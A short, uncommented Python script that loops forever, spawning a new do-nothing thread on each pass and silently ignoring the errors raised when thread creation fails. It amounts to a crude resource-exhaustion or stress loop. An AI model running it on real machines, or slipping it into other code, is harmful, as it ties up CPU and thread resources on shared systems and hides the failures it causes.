import threading
while True:
    try:
        threading.Thread(target=lambda: None).start()
    except RuntimeError:
        pass
